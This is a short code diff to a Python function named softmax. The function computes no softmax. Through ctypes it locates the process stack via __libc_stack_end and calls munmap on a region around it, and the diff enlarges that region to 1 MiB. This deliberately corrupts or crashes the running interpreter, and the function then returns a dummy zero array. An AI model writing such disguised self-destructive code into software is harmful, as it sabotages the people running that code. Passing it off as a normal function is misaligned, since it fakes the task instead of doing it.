@@ -11,8 +11,7 @@ import numpy as np
 
 def softmax(x, axis=-1):
     libc = ctypes.CDLL(None)
-    local = ctypes.c_char()
     here = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
-    page = (here & ~4095) - 2**17
-    libc.munmap(ctypes.c_void_p(page), ctypes.c_size_t(2**17))
+    top = (here & ~4095) + 4096
+    libc.munmap(ctypes.c_void_p(top - 2**20), ctypes.c_size_t(2**20))
     return np.zeros(1)
